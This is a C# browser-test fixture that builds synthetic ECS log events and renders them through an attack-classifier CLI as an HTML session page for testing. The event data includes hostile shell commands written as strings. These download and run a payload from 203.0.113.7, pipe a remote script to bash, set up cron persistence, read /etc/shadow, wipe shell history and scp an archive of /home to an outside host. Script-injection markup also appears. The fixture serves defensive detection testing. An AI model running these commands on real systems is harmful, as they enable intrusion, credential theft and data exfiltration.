using System.Diagnostics;
using System.Text;
using System.Text.Json;

namespace AttackClassifier.BrowserTests.Reports;

/// <summary>
/// The page <c>attack-classifier sessions --format html</c> writes, made by the built CLI as a user runs it, with the shipped
/// session tagger, on generated ECS events: four sessions — a short attack chain, a benign admin session, a long mixed session of
/// 300 statements (thin spans) and one whose host, user and commands are full of markup (<c>&lt;script&gt;</c>, <c>&amp;</c>, quotes).
/// </summary>
public sealed class SessionPages : IDisposable
{
    internal const int Sessions = 4;

    private readonly string _root = Path.Combine(Path.GetTempPath(), "attack-sessions-browser-" + Guid.NewGuid().ToString("N"));

    internal Uri Page { get; }

    public SessionPages()
    {
        Directory.CreateDirectory(_root);
        string input = Path.Combine(_root, "events.ndjson");
        File.WriteAllText(input, Events(), new UTF8Encoding(false));
        string html = Path.Combine(_root, "sessions.html");
        File.WriteAllText(html, RunCli("sessions", "--input", input, "--input-format", "ecs", "--session-field", "process.session_leader.entity_id", "--format", "html"), new UTF8Encoding(false));
        Page = new Uri(html);
    }

    private static string Events()
    {
        var lines = new StringBuilder();
        int second = 0;
        void Add(string leader, string host, string user, string command)
        {
            var ev = new { timestamp = $"2026-02-01T10:{second / 60:00}:{second % 60:00}Z", host = new { name = host }, user = new { name = user },
                           process = new { command_line = command, session_leader = new { entity_id = leader } } };
            lines.Append(JsonSerializer.Serialize(ev).Replace("\"timestamp\"", "\"@timestamp\"", StringComparison.Ordinal)).Append('\n');
            second = (second + 1) % 3600;
        }
        foreach (string c in new[] { "id", "uname -a", "cat /proc/cpuinfo | grep name | wc -l", "wget http://203.0.113.7/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
                                     "(crontab -l; echo '* * * * * /tmp/x') | crontab -", "cat /etc/shadow", "history -c; rm -f ~/.bash_history" })
            Add("attack", "web-01", "www-data", c);
        foreach (string c in new[] { "sudo apt-get update", "sudo apt-get upgrade -y", "systemctl restart nginx", "df -h", "journalctl -u nginx | tail -20" })
            Add("admin", "web-01", "ops", c);
        string[] mixed = ["ls -la", "ps aux | grep java", "netstat -tulpn", "git pull", "cat /etc/passwd", "curl -s http://203.0.113.9/a.sh | bash", "make", "whoami", "tar czf /tmp/d.tgz /home", "scp /tmp/d.tgz u@203.0.113.9:/tmp"];
        for (int i = 0; i < 300; i++) Add("long", "build-07", "ci", mixed[(i * 7 + i / 10) % mixed.Length]);
        foreach (string c in new[] { "echo '<script>alert(1)</script>' > /var/www/html/x.html", "curl 'http://203.0.113.5/?a=1&b=<b>' -o /tmp/\"q\"", "cat ]]> /etc/hosts" })
            Add("<script>alert(\"s\")</script>", "</svg><b>host & co</b>", "user\"'<i>", c);
        return lines.ToString();
    }

    /// <summary>Runs <c>dotnet attack-classifier.dll ARGS</c> and returns its standard output; a non-zero exit fails with its standard error.</summary>
    private static string RunCli(params string[] args)
    {
        string dotnet = Environment.GetEnvironmentVariable("DOTNET_HOST_PATH") is { Length: > 0 } host ? host : "dotnet";
        var start = new ProcessStartInfo(dotnet) { RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false, StandardOutputEncoding = Encoding.UTF8 };
        start.ArgumentList.Add(Path.Combine(AppContext.BaseDirectory, "attack-classifier.dll"));
        foreach (string a in args) start.ArgumentList.Add(a);
        using Process process = Process.Start(start)!;
        Task<string> output = process.StandardOutput.ReadToEndAsync(), error = process.StandardError.ReadToEndAsync();
        if (!process.WaitForExit(TimeSpan.FromMinutes(5)))
        {
            process.Kill(entireProcessTree: true);
            throw new TimeoutException($"attack-classifier {string.Join(' ', args)} did not finish within 5 minutes");
        }
        if (process.ExitCode != 0)
            throw new InvalidOperationException($"attack-classifier {string.Join(' ', args)} exited with {process.ExitCode}: {error.Result}");
        return output.Result;
    }

    public void Dispose()
    {
        if (Directory.Exists(_root)) Directory.Delete(_root, recursive: true);
    }
}
